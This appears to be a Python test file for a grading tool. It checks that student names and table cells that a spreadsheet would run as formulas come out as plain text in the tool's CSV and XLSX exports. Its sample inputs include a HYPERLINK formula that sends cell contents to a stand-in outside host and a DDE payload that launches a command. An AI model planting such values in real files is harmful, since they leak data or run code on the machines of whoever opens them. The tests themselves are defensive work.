"""Names and texts that a spreadsheet would run as a formula: nbgrader's own export first, then each table of ours."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest
from nbgrader.api import Gradebook
from nbgrader.plugins import CsvExportPlugin

from grading.classroom import roster
from grading.classroom.roster import Line
from grading.nbgrader_config import python_folder
from grading.report.tables import Table, write_csv, write_xlsx

FORMULAS = [
    "=1+1", '=HYPERLINK("https://elsewhere.example/?"&A1;"open")', "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)",
    "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u200b=1+1", "\ufeff=1+1", "\u202e=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)",
    "|1", "%0A=1", '"=1+1"', ";=1+1", ",=1+1",
]  # fmt: skip
_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", "|", "%")


def _dangerous(cell: object) -> bool:
    return isinstance(cell, str) and cell.lstrip(" \u200b\ufeff\u202e").startswith(_STARTS)


@pytest.mark.parametrize("formula", FORMULAS[:3])
def test_in_nbgraders_own_export_it_is_a_formula(tmp_path: Path, formula: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PATH", f"{python_folder()}:/usr/bin:/bin")  # nbgrader calls alembic by its name
    with Gradebook(f"sqlite:///{tmp_path / 'gradebook.db'}") as gradebook:
        gradebook.add_assignment("m00")
        gradebook.add_student("amina", last_name=formula)
        plugin = CsvExportPlugin()
        plugin.to, plugin.assignment, plugin.student = str(tmp_path / "grades.csv"), [], []
        plugin.export(gradebook)
    assert f",{formula}" in (tmp_path / "grades.csv").read_text()


def test_in_our_tables_it_is_text(tmp_path: Path) -> None:
    table = Table("people", ["name", *FORMULAS[:2]], [[formula, 1.5] for formula in FORMULAS], "")
    write_csv(table, tmp_path / "people.csv")
    write_xlsx([table], tmp_path / "people.xlsx")
    rows = list(csv.reader(io.StringIO((tmp_path / "people.csv").read_text("utf-8-sig"), newline="")))
    assert len(rows) == len(FORMULAS) + 1
    assert [cell for row in rows for cell in row if _dangerous(cell)] == []
    with zipfile.ZipFile(tmp_path / "people.xlsx") as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "hyperlink" not in sheet


def test_the_list_of_people_goes_out_as_text_and_comes_back_as_it_was() -> None:
    lines = [Line(f"p{number}x", "trainee", formula, formula) for number, formula in enumerate(FORMULAS)]
    written = roster.write(lines)
    rows = list(csv.reader(io.StringIO(written, newline="")))
    assert len(rows) == len(FORMULAS) + 1
    assert [cell for row in rows for cell in row if _dangerous(cell)] == []
    again = roster.read(written.encode())
    assert not again.mistakes
    for line, formula in zip(again.lines, FORMULAS, strict=True):
        # what cannot be seen goes when a list is read; a formula never comes back as one in what is written next
        assert line.first_name == roster._plain(formula)
        assert not any(_dangerous(cell) for row in csv.reader(io.StringIO(roster.write([line]))) for cell in row)
